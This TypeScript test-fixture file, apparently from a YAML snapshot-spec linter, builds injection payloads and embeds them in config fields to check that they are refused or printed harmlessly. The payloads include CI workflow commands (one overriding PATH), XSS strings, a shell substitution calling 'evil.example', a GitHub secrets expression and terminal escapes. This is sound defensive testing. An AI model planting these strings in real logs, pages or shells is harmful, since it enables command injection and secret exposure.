import { casesOf, head } from './marked.ts';
import type { Case, Row } from './marked.ts';

/** What something that reads our output could obey: a terminal, a runner of CI, a browser, Markdown, XML, a shell, a log. */
const payloads: readonly (readonly [name: string, text: string])[] = [
  ['a workflow command', '::error file=x,line=1::gotcha'],
  ['a workflow command that sets a variable', '::set-env name=PATH::/evil'],
  ['a stop of workflow commands', '::stop-commands::x'],
  ['an Azure command', '##[error]gotcha'],
  ['another Azure command', '##vso[task.setvariable variable=a]b'],
  ['TeamCity', "##teamcity[buildStatus status='SUCCESS']"],
  ['a section of GitLab', 'section_start:1:[a]'],
  ['HTML', '<img src=x onerror=alert(1)>'],
  ['a script', '</script><script>alert(1)</script>'],
  ['an end of CDATA', ']]></failure><failure>'],
  ['an entity', '&lt;&amp;&#27;'],
  ['a Markdown link', '[click](https://evil.example)'],
  ['a Markdown table', '| a | b |\\n|---|---|'],
  ['a code fence', '```js'],
  ['a mention', '@everyone'],
  ['a shell substitution', '$(curl evil.example)`id`'],
  ['a format of printf', '%s%n%25%0A::error::x'],
  ['a formula', '=HYPERLINK("x")'],
  ['a GitHub expression', '${{ secrets.TOKEN }}'],
  ['a long line', 'x'.repeat(5000)],
];

const quoted = (text: string): string => `'${text.replaceAll("'", "''")}'`;
const policy = (inside: string): string =>
  `${head}policies: {a: {schedule: {timePoints: [1], repeatWeekdays: [1]}, retentionDays: 1, ${inside}}}\n`;

/** Fields that refuse text like this, each with the findings that it may give. */
const fields: readonly (readonly [name: string, into: (text: string) => string])[] = [
  ['stack', (text) => `apiVersion: snapspec/v1\nstack: ${text}\nregion: cn-hangzhou\n`],
  ['region', (text) => `apiVersion: snapspec/v1\nstack: s\nregion: ${text}\n`],
  ['an unknown key', (text) => `${head}? ${text}\n: 1\n`],
  ['the key of an entry', (text) => `${head}snapshots:\n  ? ${text}\n  : {diskId: d-1}\n`],
  ['a number', (text) => `${head}snapshots: {a: {diskId: d-1, retentionDays: ${text}}}\n`],
  ['a name', (text) => `${head}groups: {a: {instanceId: i-1, name: ${text}}}\n`],
  ['an occurrence', (text) => `${head}snapshots: {a: {diskId: d-1, occurrence: ${text}}}\n`],
  ['a day', (text) => `${head}snapshots: {a: {diskId: d-1, takeUntil: ${text}}}\n`],
  ['a zone', (text) => `${head}policies: {a: {schedule: {timezone: ${text}, at: ["02:00"]}, retentionDays: 1}}\n`],
  ['an address to remove', (text) => `${head}removed: [{address: ${text}}]\n`],
  ['a type of disk', (text) => `${head}desktopSnapshots: {a: {desktopId: e, sourceDiskType: ${text}}}\n`],
  ['a rule', (text) => `${head}lint: {rules: {? ${text} : off}}\n`],
  ['a region of copies', (text) => policy(`crossRegionCopy: {region: ${text}}`)],
];

/** A payload in every field that must refuse it; only that it is an error, and what is printed, are looked at. */
export const refusedPayloads: readonly (readonly [name: string, text: string])[] = fields.flatMap(([field, into]) =>
  payloads.map(([name, text]) => [`${name} as ${field}`, into(quoted(text))] as const),
);

/** A payload where any text may stand: it is a value like all others, and what is printed of it must be harmless. */
export const takenPayloads: readonly (readonly [name: string, text: string])[] = payloads
  .filter(([, text]) => text.length < 100 && !text.includes('${'))
  .flatMap(([name, text]) => [
    [`${name} as a description`, `${head}snapshots: {a: {diskId: d-1, description: ${quoted(text)}}}\n`] as const,
    [`${name} as a disk`, `${head}snapshots: {a: {diskId: ${quoted(text)}}}\n`] as const,
    [
      `${name} as a reason`,
      `${head}snapshots:\n  a: {diskId: D1, retentionDays: 7} # snapspec: ignore[snapshot-disk-id-format] because ${text}\n`,
    ] as const,
    [`${name} as a comment`, `# ${text}\n${head}`] as const,
  ]);

const controls = [
  '\\e[2J',
  '\\e]0;x\\a',
  '\\r',
  '\\b\\b',
  '\\x9b2J',
  '\\u202e',
  '\\u200b',
  '\\u2028',
  '\\uFFFE',
  '\\U000E0041',
  '\\0',
  '\\x7f',
  '\\ud800',
];
const escapes: Row[] = controls.flatMap((escape): Row[] => [
  [`${escape} in a description`, `${head}snapshots: {a: {diskId: d-1, description: "x ¶${escape} y"}}\n`, 'hidden-character'],
  [`${escape} in a key of tags`, `${head}defaults: {tags: {"x¶${escape}y": z}}\n`, 'hidden-character'],
]);

/** What a terminal obeys, written as escapes of YAML: it is refused in any text. */
export const escaped: readonly Case[] = casesOf(1, escapes);
